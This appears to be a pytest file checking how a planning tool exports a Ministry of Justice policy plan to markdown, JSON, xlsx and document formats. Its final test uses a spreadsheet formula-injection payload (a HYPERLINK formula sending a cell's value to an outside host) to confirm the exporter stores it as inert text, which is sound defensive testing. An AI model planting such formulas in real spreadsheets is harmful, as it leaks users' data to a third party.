from __future__ import annotations

import json
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.conftest import MOJ_PLAN_YAML
from yardstick.plan import Plan, PlanFileError, parse_document, read_document
from yardstick.plan.exports import FORMATS, export_plan
from yardstick.plan.yamlio import load_plan


@pytest.fixture(scope="module")
def plan() -> Plan:
    return load_plan(MOJ_PLAN_YAML)


def test_markdown_shows_outline_kpis_targets_and_programmes(plan: Plan) -> None:
    text = export_plan(plan, "md").decode()
    assert text.startswith("# 法務部中程施政計畫（106–109年度）")
    assert (
        "- 五、提升資源配置效率\n  - 妥適配置預算資源，提升預算執行效率\n    - １、強化資本支出預算執行"
        in text
    )
    assert "#### 5-1 紓解矯正機關超收擁擠問題" in text
    assert "- 109年度目標值：8%以下（以下，越低越好；方向來源：目標值文字）\n" in text
    assert "- 109年度目標值：50.5日（以下，越低越好；方向來源：已複核；檢察官辦案日數" in text
    assert "at_least" not in text and "at_most" not in text and "※" not in text
    assert "| 提升檢察效能" not in text  # programme rows carry level-1 headings
    assert (
        "| 法務部調查局中和調查園區新建辦公大樓計畫 | 105-113 | 公共建設 | 4-1 檢察官辦案日數 |"
        in text
    )
    assert text.count("\n| ") == 61  # header + 60 programmes


def test_json_holds_the_same_plan(plan: Plan) -> None:
    data = json.loads(export_plan(plan, "json"))
    assert Plan.model_validate(data) == plan
    assert data["kpis"][0]["name"] == "查緝製賣運輸藥頭"


def test_xlsx_has_the_three_sheets_with_every_row(plan: Plan) -> None:
    workbook = load_workbook(BytesIO(export_plan(plan, "xlsx")))
    assert workbook.sheetnames == ["施政綱要", "關鍵績效指標", "重要計畫"]
    kpis = list(workbook["關鍵績效指標"].iter_rows(values_only=True))
    assert len(kpis) == 1 + 16
    header = kpis[0]
    row = dict(zip(header, kpis[10], strict=True))
    assert (row["KPI 編號"], row["目標值"], row["數值"], row["單位"], row["方向"]) == (
        "5-1",
        "8%以下",
        8,
        "%",
        "以下（越低越好）",
    )
    assert row["方向來源"] == "目標值文字"
    cells = {cell for row in kpis for cell in row}
    assert not cells & {"at_least", "at_most", "wording", "reviewed", "default", "name"}
    programmes = list(workbook["重要計畫"].iter_rows(values_only=True))
    assert len(programmes) == 61
    outline = list(workbook["施政綱要"].iter_rows(values_only=True))
    assert outline[1] == (1, "一、", "嚴正執行法律、推動司法互助")
    assert len(outline) == 1 + 5 + 8 + 1 + 34  # header, headings, sub-headings, unnumbered, items


def test_document_export_reads_back_as_the_same_plan_apart_from_reviews(plan: Plan) -> None:
    again = parse_document(
        export_plan(plan, "document").decode(), ministry="法務部", period="106-109"
    )
    assert again.programmes == plan.programmes
    assert again.outline == plan.outline
    assert [kpi.measurement_standard for kpi in again.kpis] == [
        kpi.measurement_standard for kpi in plan.kpis
    ]


def test_an_unknown_format_lists_the_known_ones(plan: Plan) -> None:
    with pytest.raises(PlanFileError, match="choose from md, json, xlsx, document"):
        export_plan(plan, "pdf")


def test_every_format_module_has_the_same_shape() -> None:
    for module in FORMATS.values():
        assert callable(module.render)
        assert module.SUFFIX.startswith(".")
        assert module.MEDIA_TYPE


def test_unreviewed_directions_are_marked_and_explained(moj_document: Path) -> None:
    imported = read_document(moj_document, ministry="法務部", period="106-109")
    text = export_plan(imported, "md").decode()
    assert (
        "- 109年度目標值：50.5日（以下，越低越好；方向來源：依指標名稱推定，未經複核）※\n" in text
    )
    assert "- 109年度目標值：4,000人（以上，越高越好；方向來源：預設，未經複核）※\n" in text
    assert "※ 方向未經複核" in text
    workbook = load_workbook(BytesIO(export_plan(imported, "xlsx")))
    rows = list(workbook["關鍵績效指標"].iter_rows(values_only=True))
    by_code = {row[2]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert (by_code["4-1"]["方向"], by_code["4-1"]["方向來源"]) == (
        "以下（越低越好）",
        "依指標名稱推定，未經複核",
    )
    assert by_code["1-1"]["方向來源"] == "預設，未經複核"


def test_xlsx_writes_text_that_excel_would_run_as_text(plan: Plan) -> None:
    attack = '=HYPERLINK("http://example.com/?"&A1,"x")'
    kpis = [plan.kpis[0].model_copy(update={"name": attack}), *plan.kpis[1:]]
    workbook = load_workbook(BytesIO(export_plan(plan.model_copy(update={"kpis": kpis}), "xlsx")))
    cell = workbook["關鍵績效指標"]["D2"]
    assert (cell.value, cell.data_type) == ("'" + attack, "s")
    assert workbook["關鍵績效指標"]["J2"].data_type == "n"  # target values stay numbers
